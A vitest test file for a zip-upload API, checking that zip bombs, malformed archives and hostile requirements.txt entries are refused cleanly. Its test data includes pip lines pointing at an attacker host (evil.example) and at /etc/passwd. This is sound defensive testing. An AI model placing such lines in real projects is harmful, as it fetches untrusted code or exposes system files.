import { readdir } from 'node:fs/promises';
import { buildZip, hostileZips, type ZipEntrySpec } from '@pademelon/testing';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createTestApi, type TestApi } from '../../test-api.ts';
import { createWorkspace, uploadZip } from '../../test-orchestration.ts';

// Uploads that are refused, over the whole API: with which status, for which reason, and without leaving anything.

const main: ZipEntrySpec = { name: 'main.py', content: 'print("hello")' };

let api: TestApi;
let workspaceId: number;
beforeAll(async () => {
  api = await createTestApi();
  workspaceId = await createWorkspace(api, 'ada', 'lab');
});
afterAll(() => api.close());

async function expectRefusal(zip: Buffer, status: number, word: string): Promise<string> {
  const refused = await uploadZip(api, 'ada', workspaceId, zip);
  expect(refused.statusCode, refused.body).toBe(status);
  expect(refused.json()).toEqual({
    msg: expect.stringMatching(/^(The zip|requirements\.txt) is refused.+\.$/),
    code: status,
    error: word,
    request_id: expect.any(String),
  });
  expect(refused.body).not.toContain(api.artifactFolder);
  expect(await filesOf(api)).toEqual([]);
  const listed = await api.post('ada', '/v1/api/orchestration/list', { workspace_id: workspaceId });
  expect(listed.json()).toEqual([]);
  return refused.json().msg;
}

async function filesOf({ artifactFolder }: TestApi): Promise<string[]> {
  const entries = await readdir(artifactFolder, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries.filter((entry) => entry.isFile()).map((entry) => entry.name);
}

test.each(hostileZips)('%s', async (_what, entries, spec) => {
  const reason = await expectRefusal(buildZip(entries, spec), 400, 'invalid_archive');
  expect(reason).not.toContain('no main.py');
});

describe('bombs', () => {
  test('that unpack to four gigabytes are too large, and are not unpacked', async () => {
    const bytesBefore = process.memoryUsage().rss;
    const entry = { name: 'main.py', content: Buffer.alloc(30_000_000), declaredSize: 0xfffffff0 };
    await expectRefusal(buildZip([entry]), 413, 'too_large');
    expect(process.memoryUsage().rss - bytesBefore).toBeLessThan(128 * 1024 ** 2);
  });

  test('by ratio are too large', async () => {
    await expectRefusal(buildZip([main, { name: 'zeros', content: Buffer.alloc(30_000_000) }]), 413, 'too_large');
  });

  test('of entries are refused', async () => {
    const entries = Array.from({ length: 60_000 }, (_, index) => ({ name: `${index}`, method: 0 }));
    await expectRefusal(buildZip(entries), 400, 'invalid_archive');
  });
});

describe('what is not a zip', () => {
  test.each([
    ['nothing', Buffer.alloc(0)],
    ['a tar.gz', Buffer.from('1f8b0800000000000003', 'hex')],
    ['a web page', Buffer.from('<!doctype html><title>403</title>')],
    ['zip64 sizes', Buffer.concat([buildZip([main]).subarray(0, -12), Buffer.alloc(12, 0xff)])],
  ])('%s', async (_what, bytes) => {
    await expectRefusal(bytes, 400, 'invalid_archive');
  });

  test('a zip cut at any kilobyte', async () => {
    const noise = Buffer.from(Array.from({ length: 9_000 }, (_, index) => (index * 7919) % 251));
    const whole = buildZip([main, { name: 'noise', content: noise, method: 0 }]);
    for (let length = 1; length < whole.length; length += 1_024) {
      await expectRefusal(whole.subarray(0, length), 400, 'invalid_archive');
    }
  });
});

describe('what cannot be run', () => {
  test('no main.py', async () => {
    expect(await expectRefusal(buildZip([{ name: 'run.py' }]), 400, 'invalid_archive')).toContain('no main.py');
  });

  test('two requirements.txt', async () => {
    const zip = buildZip([main, { name: 'requirements.txt' }, { name: 'a/requirements.txt' }]);
    expect(await expectRefusal(zip, 400, 'invalid_archive')).toContain('2 files named requirements.txt');
  });

  test.each([
    '--index-url http://evil.example',
    '--extra-index-url http://evil.example',
    '-e .',
    '-r /etc/passwd',
    'file:///etc/passwd',
    'git+ssh://evil.example/x.git',
    'x @ http://evil.example/x.whl',
  ])('requirements that say %s', async (line) => {
    const zip = buildZip([main, { name: 'requirements.txt', content: `pandas\n${line}\n` }]);
    expect(await expectRefusal(zip, 400, 'invalid_archive')).toContain('requirements.txt');
  });
});
